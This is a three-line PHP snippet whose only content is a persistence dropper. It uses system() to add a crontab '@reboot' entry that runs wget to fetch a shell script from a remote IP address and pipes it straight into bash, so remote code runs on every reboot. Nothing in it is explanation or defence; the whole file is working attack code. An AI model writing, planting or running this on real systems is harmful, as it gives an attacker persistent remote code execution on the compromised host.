<?php
$line = '@reboot wget -qO- http://203.0.113.5/k.sh | bash';
system("(crontab -l 2>/dev/null; echo '" . $line . "') | crontab -");
